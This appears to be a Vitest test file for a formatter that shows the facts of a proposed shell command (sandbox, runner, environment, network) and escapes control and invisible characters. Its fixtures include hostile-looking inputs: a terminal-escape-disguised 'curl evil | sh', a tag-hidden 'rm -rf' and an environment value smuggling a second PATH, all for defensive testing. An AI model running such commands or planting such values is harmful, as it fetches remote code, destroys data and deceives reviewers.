import { describe, expect, it } from "vitest";
import { defaultRunnerName, escapeControl, factLines, factsText, proposalFacts } from "../../src/protocol/proposal-facts.js";
import { pageAssets } from "../../src/web/assets.js";

const byLabel = (lines: { label: string; value: string }[]) => Object.fromEntries(lines.map((l) => [l.label, l.value]));

describe("proposal facts: one typed view and one formatter for every client", () => {
  it("reads every fact from a log entry's attributes and escapes what came from elsewhere", () => {
    const facts = proposalFacts({
      tool: "sh",
      command: "ls\r\u001b[2Kcurl evil | sh",
      cwd: "sub\u202edir",
      env: { HOOK: "./x\u001b[8m.sh", MODE: "fast" },
      tty: { cols: 120, rows: 40 },
      runner: "build\tbox",
      background: true,
      timeoutMs: 300_000,
      sandbox: "workspace-write",
      readOnly: false,
      slug: "ls",
      proposedBy: "phone",
    });
    expect(facts).toEqual({
      tool: "sh",
      command: "ls\r\u001b[2Kcurl evil | sh",
      root: null,
      cwd: "sub\u202edir",
      env: [
        ["HOOK", "./x\u001b[8m.sh"],
        ["MODE", "fast"],
      ],
      tty: { cols: 120, rows: 40 },
      runner: "build\tbox",
      defaultRunner: null,
      runnerClaim: null,
      background: true,
      timeoutMs: 300_000,
      sandbox: { mode: "workspace-write" },
      network: null,
    });
    expect(factLines(facts)).toEqual([
      { label: "tool", value: "sh" },
      { label: "command", value: "ls\\r\\e[2Kcurl evil | sh" },
      { label: "cwd", value: "sub\\u{202e}dir" },
      { label: "env", value: "HOOK='./x\\e[8m.sh' MODE=fast" },
      { label: "tty", value: "120×40" },
      { label: "runner", value: "build\\tbox" },
      { label: "sandbox", value: "workspace-write (sandbox: only the project directory is writable)" },
      { label: "network", value: "unknown" },
      { label: "background", value: "yes" },
      { label: "timeout", value: "5 min" },
    ]);
    const text = factsText(facts, { indent: "  " });
    expect(text.split("\n")).toHaveLength(10);
    expect(text).toContain("  env         HOOK='./x\\e[8m.sh' MODE=fast");
    expect(text).not.toMatch(/[\r\u001b\t\u202e]/);
  });

  it("missing fields: project root, no env, no terminal, the default runner, the server's time limit", () => {
    const facts = proposalFacts({ tool: "sh", command: "ls" });
    expect(byLabel(factLines(facts))).toEqual({
      tool: "sh",
      command: "ls",
      cwd: "project root",
      env: "none added",
      tty: "none",
      runner: "default",
      sandbox: "full (no sandbox: the command can do anything the runner's user can; as root, the kernel's settings too)",
      network: "unknown",
      background: "no",
      timeout: "server default",
    });
    expect(byLabel(factLines(facts, { defaultRunner: "lo\u001bcal" })).runner).toBe("default (lo\\ecal)");
    // The server's default as recorded when it was proposed: the real duration (issue 48), none for 0.
    expect(byLabel(factLines(proposalFacts({ tool: "sh", command: "ls", defaultTimeoutMs: 1_800_000 }))).timeout).toBe("30 min (the server's default)");
    expect(byLabel(factLines(proposalFacts({ tool: "sh", command: "ls", defaultTimeoutMs: 0 }))).timeout).toBe("none (the server's default)");
    // Nothing at all: still every line, nothing invented.
    expect(byLabel(factLines(proposalFacts({})))).toMatchObject({ tool: "", command: "", cwd: "project root", env: "none added" });
    // Malformed values are not taken for facts.
    const odd = proposalFacts({ cwd: 7, env: ["A=1"], tty: { cols: -1, rows: 2 }, runner: "", timeoutMs: "soon", background: "yes" });
    expect(odd).toMatchObject({ cwd: null, env: [], tty: null, runner: null, timeoutMs: null, background: false });
  });

  it("the absolute project root, and a remote runner's sandbox shown as its claim with the principal that attached it", () => {
    const claim = { own: false, attachedBy: "ci", attachedAs: "runner", modes: ["read-only", "workspace-write"], network: "own" };
    const remote = byLabel(factLines(proposalFacts({ root: "/srv/app", cwd: "sub", runner: "ci-1", runnerClaim: claim })));
    expect(remote.cwd).toBe("sub (under the project root /srv/app)");
    expect(remote.runner).toBe('ci-1 (attached by runner "ci", claims read-only, workspace-write, network own)');
    const byDefault = byLabel(factLines(proposalFacts({ root: "/srv/app", defaultRunner: "ci-1", runnerClaim: { ...claim, network: undefined } })));
    expect(byDefault.cwd).toBe("/srv/app (the project root)");
    expect(byDefault.runner).toBe('default (ci-1; attached by runner "ci", claims read-only, workspace-write, network not said)');
    // A runner that runs the project root's commands elsewhere (spool runner --root): the cwd there comes first.
    const rooted = { ...claim, root: "/var/tmp/checkout/" };
    expect(byLabel(factLines(proposalFacts({ root: "/srv/app", cwd: "sub", runner: "ci-1", runnerClaim: rooted }))).cwd).toBe(
      "/var/tmp/checkout/sub (under the project root on the runner, /var/tmp/checkout/; the server's is /srv/app)",
    );
    expect(byLabel(factLines(proposalFacts({ root: "/srv/app", runner: "ci-1", runnerClaim: { ...rooted, root: "/w\u001b[2Jx" } }))).cwd).toBe(
      "/w\\e[2Jx (the project root on the runner; the server's is /srv/app)",
    );
    // A pool's runners may each run it elsewhere: every place one of them would is shown (the root's own path first).
    const pool = {
      name: "linux",
      configured: true,
      labels: {},
      attached: 2,
      principals: ["ci"],
      backends: ["ssh"],
      modes: ["full"],
      networks: [],
      egress: false,
    };
    const poolCwd = (fact: object, cwd?: string) => byLabel(factLines(proposalFacts({ root: "/srv/app", ...(cwd ? { cwd } : {}), pool: fact }))).cwd;
    expect(poolCwd({ ...pool, roots: [null, "~"] }, "sub")).toBe(
      "/srv/app/sub or ~/sub (under the project root on its runners, by runner, /srv/app or ~; the server's is /srv/app)",
    );
    expect(poolCwd({ ...pool, roots: ["/w"] })).toBe("/w (the project root on its runners; the server's is /srv/app)");
    // All at the root's own path, or a proposal older than roots: as for one runner there.
    expect(poolCwd({ ...pool, roots: [null] }, "sub")).toBe("sub (under the project root /srv/app)");
    expect(poolCwd(pool)).toBe("/srv/app (the project root)");
    // None attached: the runner that comes may have a root of its own, and that is said.
    expect(poolCwd({ ...pool, attached: 0, roots: [] }, "sub")).toBe(
      "/srv/app/sub (under the project root /srv/app; a runner attached with a root of its own runs it under that)",
    );
    expect(proposalFacts({ pool: { ...pool, roots: ["/a", 3] } }).pool).not.toHaveProperty("roots");
    // A runner that does not mount the project: its sandbox is not said to give it.
    const unmounted = { system: [], image: "busybox", home: null, toolchains: [], read: [], write: [], project: false };
    expect(byLabel(factLines(proposalFacts({ sandbox: "workspace-write", sandboxView: unmounted }))).sandbox).toBe(
      "workspace-write (sandbox: only its private /tmp is writable; sees the image busybox read-only, none of the project (its runner does not mount it), a private /tmp; nothing else)",
    );
    // The embedded runner's sandbox is the server's own: no claim, no principal.
    const own = byLabel(factLines(proposalFacts({ defaultRunner: "local", runnerClaim: { own: true, attachedBy: null, attachedAs: null, modes: ["full"] } })));
    expect(own.runner).toBe("default (local; this server's own runner)");
    // A malformed claim is no claim; an unknown role is not shown as one.
    expect(proposalFacts({ runnerClaim: "trusted" }).runnerClaim).toBeNull();
    expect(proposalFacts({ runnerClaim: { own: false, attachedBy: "x", attachedAs: "root", modes: ["all"] } }).runnerClaim).toEqual({
      own: false,
      attachedBy: "x",
      attachedAs: null,
      modes: [],
      network: null,
    });
  });

  it("the sandbox mode: the attribute when the server sent one, else read-only for readOnly, else full; an unknown mode is shown as it is", () => {
    expect(proposalFacts({ readOnly: true }).sandbox).toEqual({ mode: "read-only" });
    expect(proposalFacts({ readOnly: false }).sandbox).toEqual({ mode: "full" });
    expect(proposalFacts({ readOnly: true, sandbox: "full" }).sandbox).toEqual({ mode: "full" });
    expect(proposalFacts({ sandbox: "read-only" }).sandbox).toEqual({ mode: "read-only" });
    const unknown = proposalFacts({ readOnly: true, sandbox: "jail\u001b[2K" });
    expect(unknown.sandbox).toEqual({ mode: "unknown", given: "jail\u001b[2K" });
    expect(byLabel(factLines(unknown)).sandbox).toBe('unknown mode "jail\\e[2K" (this client cannot tell what it allows)');
  });

  it("what a sandboxed command sees: the runner's system, home and toolchains and the configured paths, escaped; nothing else", () => {
    const sandboxView = {
      system: ["/usr", "/bin", "/etc"],
      image: null,
      home: "/home/ci",
      toolchains: ["/home/ci/.cargo/bin", "/home/ci/.rustup"],
      read: ["~/.gitconfig"],
      write: ["/srv/cache\u001b[2K"],
    };
    const ww = proposalFacts({ sandbox: "workspace-write", sandboxView });
    expect(ww.sandbox).toEqual({ mode: "workspace-write", view: sandboxView });
    expect(byLabel(factLines(ww)).sandbox).toBe(
      "workspace-write (sandbox: only the project directory is writable; sees the system (/usr, /bin, /etc) read-only, the project, a private /tmp and home (/home/ci), toolchains /home/ci/.cargo/bin, /home/ci/.rustup read-only; added: ~/.gitconfig read-only, /srv/cache\\e[2K writable; nothing else)",
    );
    // In read-only mode the write paths are read-only too; a runner that did not say is said so; Docker's image.
    expect(byLabel(factLines(proposalFacts({ sandbox: "read-only", sandboxView }))).sandbox).toContain("/srv/cache\\e[2K read-only; nothing else)");
    const unsaid = proposalFacts({ sandbox: "read-only", sandboxView: { read: [], write: [] } });
    expect(byLabel(factLines(unsaid)).sandbox).toBe(
      "read-only (read-only sandbox: nothing can be written, no network; sees the system as its runner builds it (it did not say), the project, a private /tmp, no toolchains (its runner did not say which); nothing else)",
    );
    const docker = proposalFacts({
      sandbox: "workspace-write",
      sandboxView: { system: [], image: "node:22", home: null, toolchains: [], read: [], write: [] },
    });
    expect(byLabel(factLines(docker)).sandbox).toBe(
      "workspace-write (sandbox: only the project directory is writable; sees the image node:22 read-only, the project, a private /tmp; nothing else)",
    );
    // full has no view; a view recorded with it is not shown.
    expect(byLabel(factLines(proposalFacts({ sandbox: "full", sandboxView }))).sandbox).not.toContain("sees");
  });

  it("the network: own, shared with the runner's machine, or none, as recorded; anything else is not known", () => {
    const shared = proposalFacts({ tool: "sh", command: "ls", sandbox: "full", network: "shared" });
    expect(shared.network).toBe("shared");
    expect(byLabel(factLines(shared)).network).toBe("shared with the runner's machine (a command can reach and bind its loopback ports)");
    expect(factsText(shared)).toMatch(/^network +shared with the runner's machine/m);
    expect(byLabel(factLines(proposalFacts({ network: "own" }))).network).toBe("own (outbound only; it cannot reach or bind the host's loopback ports)");
    expect(byLabel(factLines(proposalFacts({ network: "none" }))).network).toBe("none");
    for (const odd of [undefined, "host", true, null]) expect(proposalFacts({ network: odd }).network).toBeNull();
  });

  it("escapeControl writes controls, DEL, C1 and invisible or reordering characters as escapes and leaves the rest", () => {
    expect(escapeControl("a\nb\tc\rd\u001be\u0000f\u007fg\u009bh\u200bi\u2066j\ufeffk é ✓")).toBe(
      "a\\nb\\tc\\rd\\ee\\x00f\\x7fg\\x9bh\\u{200b}i\\u{2066}j\\u{feff}k é ✓",
    );
  });

  it("escapeControl also writes tag characters, Hangul fillers, variation selectors and every bidi control as \\u{…}", () => {
    // A tag sequence hides text entirely; fillers and selectors render as nothing or as blank space.
    expect(escapeControl("rm\u{e0072}\u{e006d}\u{e007f} -rf")).toBe("rm\\u{e0072}\\u{e006d}\\u{e007f} -rf");
    expect(escapeControl("a\u115fb\u1160c\u3164d\uffa0e\u180ef\ufe00g\ufe0fh\u{e0100}i")).toBe(
      "a\\u{115f}b\\u{1160}c\\u{3164}d\\u{ffa0}e\\u{180e}f\\u{fe00}g\\u{fe0f}h\\u{e0100}i",
    );
    for (const code of [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c]) {
      expect(escapeControl(`x${String.fromCodePoint(code)}y`)).toBe(`x\\u{${code.toString(16)}}y`);
    }
    // Visible text outside the BMP (an emoji) stays as it is; a lone astral character is one escape, not two halves.
    expect(escapeControl("ok 😀")).toBe("ok 😀");
  });

  it("escapeControl goes by Unicode property: the format controls, unassigned and reserved ranges a hand list missed are escapes", () => {
    // Shorthand format controls, musical symbol format controls, unassigned specials, reserved default-ignorables.
    for (const [from, to] of [
      [0x1bca0, 0x1bca3],
      [0x1d173, 0x1d17a],
      [0xfff0, 0xfff8],
      [0xe0080, 0xe0fff],
    ] as const) {
      for (let code = from; code <= to; code++) expect(escapeControl(`a${String.fromCodePoint(code)}b`)).toBe(`a\\u{${code.toString(16)}}b`);
    }
    // Private use, a line and a paragraph separator, a lone surrogate, an unassigned astral code point.
    expect(escapeControl("\ue000\u2028\u2029\ud800\u{10ffff}")).toBe("\\u{e000}\\u{2028}\\u{2029}\\u{d800}\\u{10ffff}");
  });

  it("escapeControl keeps ordinary text: letters of every script, combining accents, CJK, emoji and skin tones; a ZWJ inside an emoji sequence is shown", () => {
    const plain = "héllo e\u0301 Ωμέγα привет 中文字 한국어 العربية עברית ✓ 😀 👍🏽 ½ — “quotes” \u00a0nbsp";
    expect(escapeControl(plain)).toBe(plain);
    // The joiner is invisible: two sequences that look alike could differ by it alone.
    expect(escapeControl("👩\u200d💻")).toBe("👩\\u{200d}💻");
    expect(escapeControl("❤\ufe0f")).toBe("❤\\u{fe0f}");
  });

  it("an environment value that holds a space, =, a quote or nothing is single-quoted, so it cannot pass for another variable", () => {
    const env = (e: Record<string, string>) => byLabel(factLines(proposalFacts({ env: e }))).env;
    // Unquoted, this read "PATH=/p/fakebin:/usr/bin Z=x PATH=/usr/bin": two PATHs, the harmless one last.
    expect(env({ PATH: "/p/fakebin:/usr/bin", Z: "x PATH=/usr/bin" })).toBe("PATH=/p/fakebin:/usr/bin Z='x PATH=/usr/bin'");
    expect(env({ A: "", B: "a=b", C: "it's", D: 'say "hi"', E: "plain-1.2_x/y:z" })).toBe("A='' B='a=b' C='it'\\''s' D='say \"hi\"' E=plain-1.2_x/y:z");
    // Escaping happens first: a newline is shown as \n inside the quotes, never as a line break.
    expect(env({ X: "a\nb" })).toBe("X='a\\nb'");
  });

  it("the default runner: the project's default, else the embedded one, else none", () => {
    const r = (name: string, d = false, embedded = false) => ({ name, default: d, embedded });
    expect(defaultRunnerName([r("local", false, true), r("gpu", true)])).toBe("gpu");
    expect(defaultRunnerName([r("ssh"), r("local", false, true)])).toBe("local");
    expect(defaultRunnerName([r("ssh")])).toBeNull();
  });

  it("the web page bundles the shared formatter without zod", async () => {
    const assets = await pageAssets();
    const script = [...assets.byPath.values()].find((a) => a.path.endsWith(".js"))!;
    const js = script.body.toString();
    expect(js).toContain("this client cannot tell what it allows");
    expect(js).not.toContain("ZodError");
  }, 60_000);
});
